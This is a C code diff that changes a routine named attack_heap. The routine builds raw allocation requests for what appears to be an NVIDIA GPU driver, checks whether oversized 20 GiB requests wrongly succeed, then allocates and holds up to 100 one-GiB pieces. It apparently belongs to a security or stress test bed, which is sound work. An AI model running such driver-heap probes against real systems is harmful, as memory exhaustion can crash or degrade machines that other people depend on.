@@ -44,10 +44,13 @@ static uint32_t heap (struct bed *bed, uint32_t function, uint64_t size)
 {
     uint8_t head[184] = { 0 };
     uint32_t words[6] = { bed->client, bed->device, function, 0, 0, 0xffff }, handle = bed->next++, attributes = 0x18000000;
+    uint32_t owner = 0x6e76, flags = 0x4000; /* NVOS32_ALLOC_FLAGS_MEMORY_HANDLE_PROVIDED */
     uint32_t width = 1u << 16, height = (uint32_t) (size >> 16), status;
 
     memcpy (head, words, sizeof (words));
+    memcpy (head + 40, &owner, 4);
     memcpy (head + 44, &handle, 4);
+    memcpy (head + 52, &flags, 4);
     memcpy (head + (function == 6 ? 64 : 56), &attributes, 4);
     if (function == 6) {
         memcpy (head + 56, &width, 4);
@@ -69,10 +72,12 @@ void attack_heap (int argc, char **argv)
     (void) argc, (void) argv;
     for (unsigned i = 0; i < 6; i++)
         wrong += heap (&bed, functions[i], 20 * GIB) == 0;
-    while (pieces < 100 && heap (&bed, pieces % 2 ? 2 : 14, GIB) == 0)
+    uint32_t status;
+    while ((status = heap (&bed, pieces % 2 ? 2 : 14, GIB)) == 0 && pieces < 100)
         pieces++;
     say ("wrong", wrong);
     say ("pieces", pieces);
+    say ("last", status);
     hold ();
 }
 
